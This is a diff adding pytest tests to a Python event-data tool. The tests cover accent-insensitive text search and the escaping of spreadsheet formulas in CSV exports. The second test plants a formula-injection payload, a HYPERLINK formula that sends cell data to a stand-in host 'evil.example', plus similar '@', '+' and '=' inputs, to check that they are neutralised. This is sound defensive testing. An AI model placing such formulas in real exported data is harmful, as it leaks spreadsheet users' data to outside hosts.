@@ -17,6 +17,7 @@ import pandas as pd
 import pytest
 from typer.testing import CliRunner
 
+import kibaru
 from conftest import ROOT
 from kibaru.cli import app
 from kibaru.errors import StoreError, UsageError
@@ -134,6 +135,28 @@ def test_since_until_on_the_event_date_else_the_publication_date(db):
     assert ids(db, since="2024-01-30", until="2024-01-30") == ["tessalit"]
     assert ids(db, since="2024-05-13", until="2024-05-14") == ["menaka", "visit"]
     assert ids(db, type="AID", country="MLI", until="2024-12-31") == ["rus"]
+
+
+def test_free_text_ignores_case_and_accents(db):
+    assert ids(db, q="menaka") == ["menaka"]  # "Ménaka" in the evidence and the place name
+    assert ids(db, q="  MÉNAKA ") == ["menaka"]
+    assert ids(db, q="Moscou") == ["rus", "visit"]
+    assert ids(db, q="goita") == ["visit"]  # the actor "Assimi Goïta"
+    assert ids(db, q="moscou", type="AID") == ["rus"]
+    assert ids(db, q="Zürich") == []
+    assert list(kibaru.open(db).events(q="ménaka").doc_id) == ["menaka"]
+    with pytest.raises(UsageError) as info:
+        events_frame(db, q=" ")
+    assert info.value.code == "K310"
+    runner = CliRunner()
+    r = runner.invoke(app, ["events", "--db", str(db), "--q", "MENAKA", "--format", "jsonl"])
+    assert r.exit_code == 0
+    assert [json.loads(line)["document"]["id"] for line in r.output.splitlines()] == ["menaka"]
+    r = runner.invoke(app, ["export", "--format", "acled-csv", "-", "--db", str(db),
+                            "--q", "ménaka"])
+    assert r.exit_code == 0 and len(r.output.splitlines()) == 2  # the header and menaka
+    r = runner.invoke(app, ["events", "--db", str(db), "--q", ""])
+    assert r.exit_code == 2 and "K310" in r.output
 
 
 @pytest.mark.parametrize(("filters", "code"), [
@@ -329,6 +352,47 @@ def test_csv_and_jsonl_writers(db):
     out = io.StringIO()
     assert write_csv(db, out, type="SANCTION") == 0
     assert out.getvalue().startswith("document_pk,event_no,event_id,")  # header only
+
+
+def test_csv_cells_are_no_spreadsheet_formulas(db, tmp_path):
+    """Text from web pages that a spreadsheet would run as a formula gets a leading
+    apostrophe in every CSV export; numbers, negative ones included, stay numbers."""
+    path = tmp_path / "k.duckdb"
+    path.write_bytes(db.read_bytes())
+    hyperlink = '=HYPERLINK("http://evil.example/?"&A1,"clic")'
+    with duckdb.connect(str(path)) as con:
+        pk = con.execute("SELECT document_pk FROM documents WHERE doc_id = 'menaka'").fetchone()
+        con.execute("UPDATE events SET evidence_text = ?, trigger_text = '@SUM(1)', "
+                    "actor_text = '+cmd', recipient_text = ?, lat = -12.5 "
+                    "WHERE document_pk = ?", [hyperlink, "\tTAB", pk[0]])
+        con.execute("UPDATE documents SET title = '-2+3', source = '@evil', url = NULL "
+                    "WHERE document_pk = ?", pk)
+    out = io.StringIO()
+    write_csv(path, out)
+    rows = {r["doc_id"]: r for r in csv.DictReader(io.StringIO(out.getvalue()))}
+    menaka = rows["menaka"]
+    assert menaka["evidence_text"] == "'" + hyperlink
+    assert (menaka["trigger_text"], menaka["actor_text"], menaka["recipient_text"],
+            menaka["title"], menaka["source"]) == ("'@SUM(1)", "'+cmd", "'\tTAB", "'-2+3",
+                                                   "'@evil")
+    assert menaka["lat"] == "-12.5" and float(menaka["lon"]) > 0  # numbers stay numbers
+    assert not any(v.startswith("'") for d, r in rows.items() if d != "menaka"
+                   for v in r.values())
+    # the CLI's CSV and ACLED CSV
+    runner = CliRunner()
+    r = runner.invoke(app, ["events", "--db", str(path), "--format", "csv"])
+    assert r.exit_code == 0 and "'=HYPERLINK(" in r.output and "\n=" not in r.output
+    r = runner.invoke(app, ["export", "--format", "acled-csv", "-", "--db", str(path)])
+    assert r.exit_code == 0
+    reader = csv.reader(io.StringIO(r.output))
+    assert tuple(next(reader)) == ACLED_COLUMNS
+    arows = [dict(zip(ACLED_COLUMNS, row, strict=True)) for row in reader]
+    assert "'@evil" in {row["source"] for row in arows}
+    assert "@evil" not in {row["source"] for row in arows}
+    protest = next(row for row in arows if row["event_type"] == "Protests")
+    assert float(protest["longitude"]) < 0 and not protest["longitude"].startswith("'")
+    assert all(not row[c].startswith("'") for row in arows
+               for c in ("latitude", "longitude", "fatalities", "inter1", "timestamp"))
 
 
 def test_parquet_round_trip(db, tmp_path):
